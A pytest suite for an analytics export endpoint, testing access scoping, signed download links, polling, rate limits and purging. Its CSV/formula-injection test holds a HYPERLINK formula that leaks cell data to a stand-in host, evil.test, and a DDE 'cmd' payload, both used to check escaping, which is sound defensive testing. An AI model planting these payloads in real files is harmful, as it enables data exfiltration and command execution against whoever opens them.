"""POST /api/analytics/export: the file holds exactly what the caller may see, formula-like
cells are neutralised in CSV and XLSX, the signed link works until it expires and refuses
alterations, long builds answer 202 and are polled, expired files are purged."""

from __future__ import annotations

import datetime as dt
import io
import time
import zipfile
from typing import Any

import pytest

from api.routes import exports as exports_route
from dbr.exports import service as export_service
from dbr.exports.cells import neutralise
from tests.exports.support import (
    ExportWorker,
    add_message,
    csv_rows,
    local_path,
    make_lead,
    run_export_jobs,
    xlsx_rows,
)
from tests.support import acting_as, make_user, refusal

SEED_KEYS = {"id", "filename", "download_url", "expires_at", "rows"}


def _export(api, token_for, user, **body: Any):
    body.setdefault("format", "csv")
    return api.post("/api/analytics/export", json=body, headers=token_for(user))


def _built(api, token_for, settings, user, **body: Any) -> dict[str, Any]:
    with ExportWorker(settings):
        resp = _export(api, token_for, user, **body)
    assert resp.status_code == 200, resp.text
    export = resp.json()["export"]
    assert set(export) >= SEED_KEYS and export["status"] == "ready"
    return export


def _file(api, export: dict[str, Any]) -> bytes:
    resp = api.get(local_path(export["download_url"]))
    assert resp.status_code == 200, resp.text
    return resp.content


def _names(rows: list[dict[str, Any]]) -> set[str]:
    return {r["first_name"] for r in rows}


def test_leads_export_holds_exactly_the_rows_the_caller_may_see(
    export_api, token_for, export_settings, world
):
    admin = _built(export_api, token_for, export_settings, world.admin, export_type="leads")
    rows = csv_rows(_file(export_api, admin))
    assert _names(rows) == {"Ann", "Bea", "Cal"} and admin["rows"] == 3  # not Globex's Gus
    assert admin["filename"].startswith("leads-") and admin["filename"].endswith(".csv")

    restricted = _built(
        export_api, token_for, export_settings, world.restricted, export_type="leads"
    )
    assert _names(csv_rows(_file(export_api, restricted))) == {"Ann", "Bea"}
    assert restricted["rows"] == 2

    one = _built(
        export_api,
        token_for,
        export_settings,
        world.admin,
        export_type="leads",
        dataset_id=str(world.ds2),
        format="xlsx",
    )
    _, xrows = xlsx_rows(_file(export_api, one))
    assert _names(xrows) == {"Cal"} and xrows[0]["dataset"] == "Autumn list"
    assert "autumn-list" in one["filename"] and one["filename"].endswith(".xlsx")

    other = _built(export_api, token_for, export_settings, world.other_admin, export_type="leads")
    assert _names(csv_rows(_file(export_api, other))) == {"Gus"}

    # A dataset the caller may not see reads as one that does not exist.
    for user, ds in ((world.restricted, world.ds2), (world.other_admin, world.ds1)):
        resp = _export(export_api, token_for, user, export_type="leads", dataset_id=str(ds))
        assert resp.status_code == 404 and resp.json()["error"]["code"] == "NOT_FOUND"


def test_rows_are_read_as_the_requester_when_the_worker_builds(
    export_api, token_for, export_settings, world, db, monkeypatch
):
    # Restricted further after asking, before the worker runs: the file follows RLS at build.
    monkeypatch.setattr(export_settings, "export_wait_seconds", 0.0)
    resp = _export(export_api, token_for, world.manager, export_type="leads")
    assert resp.status_code == 202
    db.execute(
        "update public.client_members set can_view_all_leads = false, allowed_dataset_ids = %s"
        " where user_id = %s",
        ([world.ds2], world.manager),
    )
    run_export_jobs(export_settings)
    export = export_api.get(resp.headers["location"], headers=token_for(world.manager)).json()[
        "export"
    ]
    assert _names(csv_rows(_file(export_api, export))) == {"Cal"}


FORMULAS = {
    "first_name": '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "last_name": "+SUM(1,2)",
    "postcode": "-2+3",
    "notes": "@cmd",
    "email": None,
    "latest_lead_reply": "\t=1+1",
}


def test_formula_like_cells_are_neutralised_in_csv_and_xlsx(
    export_api, token_for, export_settings, world, db
):
    make_lead(db, world.client_id, world.ds1, **{k: v for k, v in FORMULAS.items() if v})
    db.execute(
        "update public.leads set notes = ' =cmd|'' /C calc''!A0' where first_name = 'Ann'"
        " and client_id = %s",
        (world.client_id,),
    )
    csv_export = _built(
        export_api,
        token_for,
        export_settings,
        world.admin,
        export_type="leads",
        dataset_id=str(world.ds1),
    )
    rows = {r["first_name"]: r for r in csv_rows(_file(export_api, csv_export))}
    evil = rows["'" + FORMULAS["first_name"]]
    assert evil["last_name"] == "'+SUM(1,2)"
    assert evil["postcode"] == "'-2+3"
    assert evil["notes"] == "'@cmd"
    assert evil["latest_lead_reply"] == "'\t=1+1"
    assert evil["phone_number"].startswith("+44")  # a plain number is left alone
    assert (evil["call_booked"], evil["opted_out"]) == ("FALSE", "FALSE")  # not COPY's t/f
    assert rows["Ann"]["notes"] == "' =cmd|' /C calc'!A0"
    assert rows["Bea"]["last_name"] == "Smith"

    xlsx_export = _built(
        export_api,
        token_for,
        export_settings,
        world.admin,
        export_type="leads",
        dataset_id=str(world.ds1),
        format="xlsx",
    )
    wb, xrows = xlsx_rows(_file(export_api, xlsx_export))
    assert {r["first_name"] for r in xrows} == set(rows)
    ws = wb.worksheets[0]
    # No cell of the sheet is a formula: every value is stored as a plain string or value.
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)
    evil_x = next(r for r in xrows if r["last_name"] == "'+SUM(1,2)")
    assert evil_x["first_name"] == "'" + FORMULAS["first_name"]
    assert evil_x["notes"] == "'@cmd" and evil_x["postcode"] == "'-2+3"
    assert isinstance(evil_x["created_at"], dt.datetime)  # dates are Excel dates
    assert evil_x["call_booked"] is False


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "  =x",
        "\u00a0=x",
        "+447911123456",
        "-5",
        "-5.5",
        "+1-2",
        "plain",
        "",
        "a=b",
        "'=already",
    ],
)
def test_sql_and_python_neutralise_alike(db, value):
    sql = db.execute("select private.export_text(%s) as v", (value,)).fetchone()["v"]
    assert sql == neutralise(value)


def test_signed_link_works_until_expiry_and_refuses_alterations(
    export_api, token_for, export_settings, world, monkeypatch
):
    export = _built(export_api, token_for, export_settings, world.admin, export_type="leads")
    expires_at = dt.datetime.fromisoformat(export["expires_at"])
    assert (
        dt.timedelta(hours=23, minutes=59)
        < expires_at - dt.datetime.now(dt.UTC)
        <= (dt.timedelta(hours=24))
    )
    url = local_path(export["download_url"])
    assert url.startswith("/api/exports/files/")
    ok = export_api.get(url)  # no bearer token: the link is the permission
    assert ok.status_code == 200 and ok.headers["content-type"].startswith("text/csv")
    assert export["filename"] in ok.headers["content-disposition"]
    expires = int(url.split("expires=")[1].split("&")[0])
    assert expires == int(expires_at.timestamp())

    token = url.split("token=")[1]
    altered = [
        url[:-1] + ("0" if token[-1] != "0" else "1"),  # token
        url.replace(f"expires={expires}", f"expires={expires + 3600}"),  # a longer life
        url.replace(str(world.client_id), str(world.other_client)),  # another client's file
        url.split("&token=")[0] + "&token=",
        url.split("&token=")[0] + "&token=%C3%A9" + token[2:],  # not even ASCII
    ]
    for bad in altered:
        resp = export_api.get(bad)
        assert resp.status_code in (400, 403), (bad, resp.text)
        assert resp.json()["error"]["code"] in ("FORBIDDEN", "VALIDATION_ERROR")

    # The same link after its expiry.
    real_time = time.time
    monkeypatch.setattr(exports_route.time, "time", lambda: real_time() + 24 * 3600 + 5)
    late = export_api.get(url)
    assert late.status_code == 410 and late.json()["error"]["code"] == "EXPIRED"


def test_long_build_answers_202_and_is_polled(
    export_api, token_for, export_settings, world, monkeypatch
):
    monkeypatch.setattr(export_settings, "export_wait_seconds", 0.3)
    resp = _export(export_api, token_for, world.admin, export_type="leads", format="xlsx")
    assert resp.status_code == 202, resp.text
    pending = resp.json()["export"]
    assert pending["status"] == "pending" and pending["download_url"] is None
    assert resp.headers["location"] == f"/api/analytics/export/{pending['id']}"
    still = export_api.get(resp.headers["location"], headers=token_for(world.admin))
    assert still.status_code == 202 and still.json()["export"]["status"] == "pending"

    # Another member cannot poll it; another client's admin neither; the own admin can.
    assert (
        export_api.get(resp.headers["location"], headers=token_for(world.manager)).status_code
        == 404
    )
    assert (
        export_api.get(resp.headers["location"], headers=token_for(world.other_admin)).status_code
        == 404
    )

    run_export_jobs(export_settings)
    done = export_api.get(resp.headers["location"], headers=token_for(world.admin))
    assert done.status_code == 200
    export = done.json()["export"]
    assert export["status"] == "ready" and export["rows"] == 3
    _, rows = xlsx_rows(_file(export_api, export))
    assert _names(rows) == {"Ann", "Bea", "Cal"}


def test_refusals(export_api, token_for, export_settings, world, db, monkeypatch):
    loner = make_user(db, None)
    cases = [
        (world.admin, {"export_type": "everything"}, 400, "VALIDATION_ERROR"),
        (world.admin, {"export_type": "leads", "format": "pdf"}, 400, "VALIDATION_ERROR"),
        (world.admin, {"export_type": "leads", "time_range": "year"}, 400, "VALIDATION_ERROR"),
        (world.admin, {"export_type": "leads", "dataset_id": "x"}, 400, "VALIDATION_ERROR"),
        (loner, {"export_type": "leads"}, 403, "FORBIDDEN"),
    ]
    for user, body, status, code in cases:
        resp = _export(export_api, token_for, user, **body)
        assert (resp.status_code, resp.json()["error"]["code"]) == (status, code), resp.text
    assert (
        export_api.post(
            "/api/analytics/export", json={"export_type": "leads", "format": "csv"}
        ).status_code
        == 401
    )

    # Three exports in flight per member at most.
    monkeypatch.setattr(export_settings, "export_wait_seconds", 0.0)
    for _ in range(3):
        assert (
            _export(export_api, token_for, world.reader, export_type="lessons").status_code == 202
        )
    busy = _export(export_api, token_for, world.reader, export_type="lessons")
    assert busy.status_code == 429 and busy.json()["error"]["code"] == "RATE_LIMITED"
    assert busy.headers["retry-after"] == "10"
    count = db.execute(
        "select count(*) as n from public.exports where requested_by = %s", (world.reader,)
    ).fetchone()["n"]
    assert count == 3


def test_conversations_export_follows_the_callers_datasets(
    export_api, token_for, export_settings, world, db
):
    add_message(db, world.leads["Ann"], "Hi Ann, still thinking about solar?")
    add_message(db, world.leads["Ann"], "=yes please", inbound=True)
    add_message(db, world.leads["Ann"], "Draft reply", status="draft")
    add_message(db, world.leads["Cal"], "Hi Cal")
    add_message(db, world.leads["Gus"], "Hi Gus")
    admin = _built(export_api, token_for, export_settings, world.admin, export_type="conversations")
    rows = csv_rows(_file(export_api, admin))
    assert [r["content"] for r in rows if r["first_name"] == "Ann"] == [
        "Hi Ann, still thinking about solar?",
        "'=yes please",
    ]
    assert {r["first_name"] for r in rows} == {"Ann", "Cal"} and admin["rows"] == 3
    restricted = _built(
        export_api,
        token_for,
        export_settings,
        world.restricted,
        export_type="conversations",
        format="xlsx",
    )
    _, xrows = xlsx_rows(_file(export_api, restricted))
    assert {r["first_name"] for r in xrows} == {"Ann"}


def test_lessons_export_has_own_and_universal_lessons(
    export_api, token_for, export_settings, world, db
):
    db.execute(
        "insert into public.lessons (client_id, scope, title) values (%s, 'client_specific', %s),"
        " (%s, 'client_specific', 'Globex only'), (null, 'universal', 'Be kind')",
        (world.client_id, "-Never promise prices", world.other_client),
    )
    export = _built(export_api, token_for, export_settings, world.reader, export_type="lessons")
    titles = {r["title"] for r in csv_rows(_file(export_api, export))}
    assert "'-Never promise prices" in titles and "Be kind" in titles
    assert "Globex only" not in titles


def test_exports_record_who_exported_what_and_admins_see_all(
    export_api, token_for, export_settings, world, db
):
    mine = _built(export_api, token_for, export_settings, world.manager, export_type="leads")
    _built(export_api, token_for, export_settings, world.admin, export_type="lessons")
    row = db.execute("select * from public.exports where id = %s", (mine["id"],)).fetchone()
    assert row["requested_by"] == world.manager and row["client_id"] == world.client_id
    assert (row["export_type"], row["format"], row["row_count"]) == ("leads", "csv", 3)
    assert row["storage_path"] == f"{world.client_id}/{mine['id']}.csv"
    with acting_as(db, world.manager) as conn:
        seen = conn.execute("select export_type::text as t from public.exports").fetchall()
    assert [r["t"] for r in seen] == ["leads"]
    with acting_as(db, world.admin) as conn:
        n = conn.execute("select count(*) as n from public.exports").fetchone()["n"]
    assert n == 2
    with acting_as(db, world.other_admin) as conn:
        assert conn.execute("select count(*) as n from public.exports").fetchone()["n"] == 0


def test_nobody_writes_the_exports_record_directly(world, db):
    for user in (world.admin, world.other_admin):
        for sql in (
            "update public.exports set row_count = 0",
            "delete from public.exports",
            "insert into public.exports (client_id, export_type, format, filename, storage_path)"
            " values (gen_random_uuid(), 'leads', 'csv', 'x.csv', 'x/y.csv')",
        ):
            err = refusal(db, user, sql)
            assert err.status == 403, sql


def test_expired_files_are_purged(export_api, token_for, export_settings, world, db):
    export = _built(export_api, token_for, export_settings, world.admin, export_type="leads")
    key = f"{world.client_id}/{export['id']}.csv"
    stored = export_settings.storage_dir / "exports" / key
    assert stored.is_file()
    assert db.execute("select private.enqueue_exports_purge() as j").fetchone()["j"] is None
    db.execute(
        "update public.exports set expires_at = now() - interval '1 second' where id = %s",
        (export["id"],),
    )
    # Past its expiry, before the purge: no link is handed out any more.
    late = export_api.get(f"/api/analytics/export/{export['id']}", headers=token_for(world.admin))
    assert late.json()["export"]["status"] == "expired"
    assert late.json()["export"]["download_url"] is None

    assert db.execute("select private.enqueue_exports_purge() as j").fetchone()["j"] is not None
    results = run_export_jobs(export_settings, ("exports.purge",))
    assert results and results[0]["purged"] >= 1
    assert not stored.exists()
    row = db.execute(
        "select status::text, purged_at from public.exports where id = %s", (export["id"],)
    ).fetchone()
    assert row["status"] == "expired" and row["purged_at"] is not None
    assert export_api.get(local_path(export["download_url"])).status_code in (404, 410)


def test_analytics_summary_has_daily_table_and_native_charts(
    export_api, token_for, export_settings, world, db
):
    add_message(db, world.leads["Ann"], "Hi Ann", category="m1", days_ago=1)
    add_message(db, world.leads["Ann"], "Yes please", inbound=True, days_ago=1)
    add_message(db, world.leads["Bea"], "Hi Bea", category="m1", days_ago=3)
    add_message(db, world.leads["Cal"], "Hi Cal", category="m1", days_ago=1)
    add_message(db, world.leads["Gus"], "Hi Gus", category="m1", days_ago=1)
    today = db.execute(
        "select (now() at time zone c.timezone)::date as d from public.clients c where c.id = %s",
        (world.client_id,),
    ).fetchone()["d"]

    def day(n: int) -> str:
        return (today - dt.timedelta(days=n)).isoformat()

    admin = _built(
        export_api,
        token_for,
        export_settings,
        world.admin,
        export_type="analytics_summary",
        time_range="week",
    )
    rows = csv_rows(_file(export_api, admin))
    assert list(rows[0]) == ["date", "messages_sent", "replies_received", "calls_booked"]
    assert [r["date"] for r in rows] == [day(n) for n in range(6, -1, -1)]  # 7 local days
    by_day = {r["date"]: r for r in rows}
    assert (by_day[day(1)]["messages_sent"], by_day[day(1)]["replies_received"]) == ("2", "1")
    assert by_day[day(3)]["messages_sent"] == "1" and by_day[day(0)]["messages_sent"] == "0"
    assert admin["rows"] == 7

    restricted = _built(
        export_api,
        token_for,
        export_settings,
        world.restricted,
        export_type="analytics_summary",
        time_range="week",
        format="xlsx",
    )
    content = _file(export_api, restricted)
    wb, _ = xlsx_rows(content)
    assert wb.sheetnames == ["Summary", "Daily"]
    daily = {
        r[0].date().isoformat(): r[1:] for r in wb["Daily"].iter_rows(min_row=2, values_only=True)
    }
    assert daily[day(1)] == (1, 1, 0)  # Cal's dataset is not the restricted member's
    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(values_only=True) if r[0]}
    assert summary["Messages sent"] == 2 and summary["Dataset"] == "All datasets"

    with zipfile.ZipFile(io.BytesIO(content)) as z:
        charts = sorted(n for n in z.namelist() if n.startswith("xl/charts/chart"))
        assert len(charts) == 2
        line, bars = (z.read(n).decode() for n in charts)
    assert "<c:lineChart>" in line and "Daily!$B$2:$B$8" in line and "Daily!$C$2:$C$8" in line
    assert "<c:barChart>" in bars and "Daily!$D$2:$D$8" in bars


def test_a_build_that_keeps_failing_ends_failed_and_a_crashed_one_is_rebuilt(
    export_api, token_for, export_settings, world, db, monkeypatch
):
    monkeypatch.setattr(export_settings, "export_wait_seconds", 0.0)
    doomed = _export(export_api, token_for, world.admin, export_type="leads").json()["export"]

    def broken(*args: Any) -> int:
        raise OSError("disk full")

    monkeypatch.setattr(export_service, "write_rows", broken)
    for _ in range(3):  # the job's attempts, backoff skipped
        db.execute("update private.jobs set run_at = now() where kind = 'exports.build'")
        run_export_jobs(export_settings)
    export = export_api.get(
        f"/api/analytics/export/{doomed['id']}", headers=token_for(world.admin)
    ).json()["export"]
    assert export["status"] == "failed" and "disk full" in export["error"]
    assert export["download_url"] is None
    leftovers = list((export_settings.storage_dir / ".incoming").glob(".export-*"))
    assert leftovers == []  # no temporary file left behind
    monkeypatch.undo()

    # A worker that died mid-build (the export stays `running`): the job's next run rebuilds.
    monkeypatch.setattr(export_settings, "export_wait_seconds", 0.0)
    crashed = _export(export_api, token_for, world.admin, export_type="leads").json()["export"]
    db.execute("select private.begin_export(%s)", (crashed["id"],))
    run_export_jobs(export_settings)
    export = export_api.get(
        f"/api/analytics/export/{crashed['id']}", headers=token_for(world.admin)
    ).json()["export"]
    assert export["status"] == "ready" and export["rows"] == 3


def test_time_range_counts_the_clients_local_days(
    export_api, token_for, export_settings, world, db
):
    db.execute(
        "update public.clients set timezone = 'Pacific/Auckland' where id = %s", (world.client_id,)
    )
    db.execute(
        "update public.leads set created_at = now() - interval '10 days' where id = %s",
        (world.leads["Cal"],),
    )
    # Created just before the client's local midnight of six days ago: out of "week" by minutes.
    db.execute(
        "update public.leads set created_at = (date_trunc('day', now() at time zone"
        " 'Pacific/Auckland') - interval '6 days' - interval '5 minutes') at time zone"
        " 'Pacific/Auckland' where id = %s",
        (world.leads["Bea"],),
    )
    week = _built(
        export_api,
        token_for,
        export_settings,
        world.admin,
        export_type="leads",
        time_range="week",
    )
    assert _names(csv_rows(_file(export_api, week))) == {"Ann"}
    assert "-week-" in week["filename"]
    month = _built(
        export_api,
        token_for,
        export_settings,
        world.admin,
        export_type="leads",
        time_range="month",
    )
    rows = csv_rows(_file(export_api, month))
    assert _names(rows) == {"Ann", "Bea", "Cal"}
    ann = next(r for r in rows if r["first_name"] == "Ann")
    created = db.execute(
        "select to_char((created_at at time zone 'Pacific/Auckland')::timestamp(0),"
        " 'YYYY-MM-DD HH24:MI:SS') as t"
        " from public.leads where id = %s",
        (world.leads["Ann"],),
    ).fetchone()["t"]
    assert ann["created_at"] == created  # times are the client's local times


def test_a_member_suspended_before_the_build_gets_no_file(
    export_api, token_for, export_settings, world, db, monkeypatch
):
    monkeypatch.setattr(export_settings, "export_wait_seconds", 0.0)
    asked = _export(export_api, token_for, world.manager, export_type="leads").json()["export"]
    db.execute(
        "update public.client_members set status = 'suspended' where user_id = %s",
        (world.manager,),
    )
    run_export_jobs(export_settings)
    row = db.execute(
        "select status::text as s, error from public.exports where id = %s", (asked["id"],)
    ).fetchone()
    assert row["s"] == "failed" and "no longer active" in row["error"]
    stored = export_settings.storage_dir / "exports" / str(world.client_id)
    assert list(stored.glob(f"{asked['id']}.*")) == []
